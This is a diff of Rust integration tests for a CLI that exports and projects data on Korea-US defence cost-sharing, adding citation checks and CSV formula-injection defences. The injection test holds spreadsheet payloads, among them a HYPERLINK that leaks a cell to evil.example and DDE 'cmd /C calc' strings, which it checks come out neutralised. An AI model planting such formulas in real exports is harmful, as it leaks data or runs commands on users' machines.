@@ -50,9 +50,14 @@ fn stderr(o: &Output) -> String {
 
 /// A copy of the minimal fixture with one broken case laid over it.
 fn broken_dataset(case: &str) -> tempfile::TempDir {
+    minimal_dataset_with(&Path::new("broken").join(case))
+}
+
+/// A copy of the minimal fixture with the fixture directory `layer` laid over it.
+fn minimal_dataset_with(layer: &Path) -> tempfile::TempDir {
     let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
     let dir = tempfile::tempdir().unwrap();
-    for layer in [fixtures.join("minimal"), fixtures.join("broken").join(case)] {
+    for layer in [fixtures.join("minimal"), fixtures.join(layer)] {
         for entry in std::fs::read_dir(layer).unwrap() {
             let entry = entry.unwrap();
             std::fs::copy(entry.path(), dir.path().join(entry.file_name())).unwrap();
@@ -186,7 +191,7 @@ fn project_csv_has_the_documented_columns() {
     assert_eq!(
         out.lines().next(),
         Some(
-            "year,scenario,status,basis,krw_bn,krw_origin,krw_per_usd,rate,capped,rule_extended,driver,dataset_version,assumptions"
+            "year,scenario,status,basis,krw_bn,krw_origin,krw_per_usd,rate,capped,rule_extended,driver,sources,dataset_version,assumptions"
         )
     );
     let rows = csv_rows(&out);
@@ -209,7 +214,7 @@ fn project_csv_has_the_documented_columns() {
         ),
         ("1646.0", "projected", "computed")
     );
-    assert_eq!(r2030["driver"], "+2.0 % (2028 CPI, assumed), cap 5 %");
+    assert_eq!(r2030["driver"], "'+2.0 % (2028 CPI, assumed), cap 5 %");
     assert_eq!(r2030["basis"], "nominal");
     assert!(!r2030["assumptions"].contains("base_year"), "nominal");
     // A demand is in dollars: its won are converted, at the assumed rate.
@@ -403,7 +408,11 @@ fn a_rate_can_be_set_for_single_years() {
         (r2029["krw_bn"].as_str(), r2029["capped"].as_str()),
         ("1661.2", "true")
     );
-    assert_eq!(r2029["driver"], "+5.0 %, the cap (2027 CPI 7.0 %, assumed)");
+    // Text starting with `+` is neutralised for spreadsheets (README, Robustness).
+    assert_eq!(
+        r2029["driver"],
+        "'+5.0 %, the cap (2027 CPI 7.0 %, assumed)"
+    );
     let r2030 = find(&rows, &[("year", "2030"), ("scenario", "12th-sma")]);
     assert_eq!(r2030["krw_bn"], "1694.5");
     // The override is in every row's stamp.
@@ -479,6 +488,7 @@ fn export_json_is_an_array_of_objects() {
         "agreements",
         "economy",
         "projections",
+        "sources",
     ] {
         let o = sma_dash(&["export", series, "--format", "json"]);
         assert_eq!(o.status.code(), Some(0), "{series}: {}", stderr(&o));
@@ -489,6 +499,13 @@ fn export_json_is_an_array_of_objects() {
         assert!(!rows.is_empty(), "{series}");
         for row in rows {
             assert!(row["dataset_version"].is_string(), "{series}");
+            // Every file of figures or events says where each row comes from.
+            let cites = if series == "sources" {
+                "cited_by"
+            } else {
+                "sources"
+            };
+            assert!(row[cites].is_string(), "{series}: {row}");
             // The assumptions where they shape the numbers, and only there.
             match series {
                 "contributions" | "projections" => assert!(
@@ -499,6 +516,96 @@ fn export_json_is_an_array_of_objects() {
             }
         }
     }
+}
+
+#[test]
+fn export_sources_lists_every_source_and_the_records_citing_it() {
+    let d = sma_dash::data::Dataset::embedded().unwrap();
+    let csv = sma_dash(&["export", "sources"]);
+    assert_eq!(csv.status.code(), Some(0), "{}", stderr(&csv));
+    let text = stdout(&csv);
+    assert_eq!(
+        text.lines().next(),
+        Some("id,title,publisher,date,url,cited_by,citations,dataset_version")
+    );
+    let rows = csv_rows(&text);
+    let ids: Vec<&str> = rows.iter().map(|r| r["id"].as_str()).collect();
+    let dataset: Vec<&str> = d.sources.iter().map(|s| s.id.as_str()).collect();
+    assert_eq!(ids, dataset, "every source of the dataset, in its order");
+    // The 10th SMA's press release: its agreement, its contribution, its milestones.
+    let r03 = find(&rows, &[("id", "R03")]);
+    assert_eq!(r03["publisher"], "ROK Ministry of Foreign Affairs");
+    assert_eq!(r03["date"], "2019-02-10");
+    assert_eq!(
+        r03["url"],
+        "https://mofa.go.kr/eng/brd/m_5676/view.do?seq=320383"
+    );
+    assert_eq!(
+        r03["cited_by"],
+        "agreement:sma-10; contribution:2019; event:sma-10-initialed; event:sma-10-signed; \
+         event:sma-10-ratified; event:sma-10-in-force; event:sma-10-expiry"
+    );
+    assert_eq!(r03["citations"], "7");
+    // Every id any record cites is a row, and lists that record.
+    let events = sma_dash(&["export", "events"]);
+    for e in csv_rows(&stdout(&events)) {
+        for id in e["sources"].split("; ") {
+            let row = find(&rows, &[("id", id)]);
+            let by: Vec<&str> = row["cited_by"].split("; ").collect();
+            assert!(by.contains(&format!("event:{}", e["id"]).as_str()), "{id}");
+        }
+    }
+    let json = sma_dash(&["export", "sources", "--format", "json"]);
+    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    let rows = v.as_array().unwrap();
+    assert_eq!(rows.len(), d.sources.len());
+    let r03 = rows.iter().find(|r| r["id"] == "R03").unwrap();
+    assert_eq!(r03["citations"], 7);
+    assert!(
+        r03["cited_by"]
+            .as_str()
+            .unwrap()
+            .starts_with("agreement:sma-10; ")
+    );
+    // The sources are not shaped by the assumptions.
+    let o = sma_dash(&["export", "sources", "--cpi", "3"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        stderr(&o).contains("--cpi does not apply to the sources"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn a_projected_year_cites_its_rule_and_the_recorded_input_that_drove_it() {
+    let rows = csv_rows(&stdout(&sma_dash(&["export", "projections"])));
+    let d = sma_dash::data::Dataset::embedded().unwrap();
+    // 2026 is recorded: the contribution's own sources.
+    let start = find(&rows, &[("year", "2026"), ("scenario", "12th-sma")]);
+    assert_eq!(
+        start["sources"],
+        d.contribution(2026).unwrap().sources.join("; ")
+    );
+    // 2027 under the 12th SMA: the agreement's sources, then 2025's Korean CPI's.
+    let rule = &d.agreement("sma-12").unwrap().sources;
+    let cpi = &d.korean_cpi(2025).unwrap().sources;
+    let sources = &find(&rows, &[("year", "2027"), ("scenario", "12th-sma")])["sources"];
+    let mut expected: Vec<&str> = Vec::new();
+    for id in rule.iter().chain(cpi) {
+        if !expected.contains(&id.as_str()) {
+            expected.push(id);
+        }
+    }
+    assert!(expected.contains(&"R74") && expected.len() > rule.len());
+    assert_eq!(sources.split("; ").collect::<Vec<_>>(), expected);
+    // A demand cites the events that report it; the custom rate cites nothing.
+    let demand = &find(&rows, &[("year", "2030"), ("scenario", "demand-5bn")])["sources"];
+    assert_eq!(demand, "R39; R41; R42");
+    assert_eq!(
+        find(&rows, &[("year", "2030"), ("scenario", "custom")])["sources"],
+        ""
+    );
 }
 
 #[test]
@@ -1113,7 +1220,7 @@ fn project_band_csv_and_json_carry_the_lows_the_highs_and_the_spreads() {
     assert_eq!(
         out.lines().next(),
         Some(
-            "year,scenario,status,basis,krw_bn,krw_bn_low,krw_bn_high,krw_origin,usd_m,usd_m_low,usd_m_high,usd_origin,krw_per_usd,rate,capped,rule_extended,driver,dataset_version,assumptions,band"
+            "year,scenario,status,basis,krw_bn,krw_bn_low,krw_bn_high,krw_origin,usd_m,usd_m_low,usd_m_high,usd_origin,krw_per_usd,rate,capped,rule_extended,driver,sources,dataset_version,assumptions,band"
         )
     );
     let rows = csv_rows(&out);
@@ -1467,4 +1574,132 @@ fn totals_are_labelled_with_the_years_they_sum_on_screen_and_in_files() {
         .unwrap();
     assert_eq!(cpi["value"], 2.5);
     assert_eq!(cpi["by_year"]["2027"], 3.0);
+}
+
+/// The cells of `csv` under `column`, as a spreadsheet reads them.
+fn column(csv: &str, column: &str) -> Vec<String> {
+    csv_rows(csv)
+        .into_iter()
+        .map(|mut row| {
+            row.remove(column)
+                .unwrap_or_else(|| panic!("no column {column} in {csv}"))
+        })
+        .collect()
+}
+
+#[test]
+fn csv_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() {
+    let data = minimal_dataset_with(Path::new("formulas"));
+    let data = data.path().to_str().unwrap();
+    let out = tempfile::tempdir().unwrap();
+    let file = out.path().join("events.csv");
+    let o = sma_dash(&[
+        "export",
+        "events",
+        "--data",
+        data,
+        "-o",
+        file.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let events = std::fs::read_to_string(&file).unwrap();
+    assert!(
+        events.contains(
+            ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"10th SMA, round 1\"\")\","
+        ),
+        "{events}"
+    );
+    assert!(column(&events, "place").contains(&"'@Honolulu".to_string()));
+    assert!(
+        column(&events, "text").contains(&"'-1+1 then +cmd|' /C calc'!A0".to_string()),
+        "{events}"
+    );
+    // Written to standard output, the same.
+    let o = sma_dash(&["export", "events", "--data", data]);
+    assert_eq!(stdout(&o), events);
+
+    let o = sma_dash(&["export", "contributions", "--data", data]);
+    let notes = column(&stdout(&o), "note");
+    assert_eq!(notes[0], "'@SUM(1+1)*cmd|' /C calc'!A0", "{}", stdout(&o));
+    // JSON is data, not a spreadsheet: its text is as written.
+    let o = sma_dash(&[
+        "export",
+        "contributions",
+        "--data",
+        data,
+        "--format",
+        "json",
+    ]);
+    assert!(
+        stdout(&o).contains("\"note\": \"@SUM(1+1)"),
+        "{}",
+        stdout(&o)
+    );
+
+    // `project --format csv`: the drivers ("+2.1 % …") are text and neutralised; the
+    // amounts are numbers and are not.
+    let o = sma_dash(&["project", "--format", "csv"]);
+    let csv = stdout(&o);
+    let drivers: Vec<String> = column(&csv, "driver")
+        .into_iter()
+        .filter(|d| !d.is_empty())
+        .collect();
+    assert!(drivers.iter().any(|d| d.starts_with("'+")), "{csv}");
+    let formula = |d: &String| d.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    assert!(!drivers.iter().any(formula), "{csv}");
+    assert!(
+        column(&csv, "krw_bn")
+            .iter()
+            .all(|v| v.parse::<f64>().is_ok())
+    );
+
+    // Negative numbers stay numbers: the embedded economy has years of falling prices.
+    let o = sma_dash(&["export", "economy"]);
+    let csv = stdout(&o);
+    let negative: Vec<f64> = ["korean_cpi_pct", "us_cpi_pct", "defense_growth_pct"]
+        .iter()
+        .flat_map(|c| column(&csv, c))
+        .filter(|v| v.starts_with('-'))
+        .map(|v| v.parse::<f64>().unwrap())
+        .collect();
+    assert!(!negative.is_empty(), "{csv}");
+    assert!(!csv.contains("'-"), "{csv}");
+}
+
+#[test]
+fn a_scenarios_file_that_does_not_read_lists_every_problem_on_stderr() {
+    let data = tempfile::tempdir().unwrap();
+    let file = data.path().join("sma-dash/scenarios.toml");
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/scenarios/several-problems.toml");
+    std::fs::copy(&fixture, &file).unwrap();
+    // A saved scenario's name makes `render` read the saved scenarios.
+    let o = sma_dash_with(
+        &["render", "--scenario", "fine"],
+        &[("XDG_DATA_HOME", data.path())],
+    );
+    let err = stderr(&o);
+    let shown = file.display().to_string();
+    assert!(
+        err.starts_with(&format!("sma-dash: warning: {shown}:23:1: ")),
+        "{err}"
+    );
+    assert!(
+        err.contains("(and 6 more problems); moved it aside to"),
+        "{err}"
+    );
+    assert!(
+        err.contains("\nsma-dash: 7 problems in the scenarios file:\n"),
+        "{err}"
+    );
+    for place in [
+        ":23:1:", ":27:9:", ":28:14:", ":35:27:", ":42:15:", ":49:8:", ":56:13:",
+    ] {
+        assert!(
+            err.contains(&format!("\n{shown}{place} ")),
+            "{place}: {err}"
+        );
+    }
+    assert!(!file.exists(), "moved aside");
 }
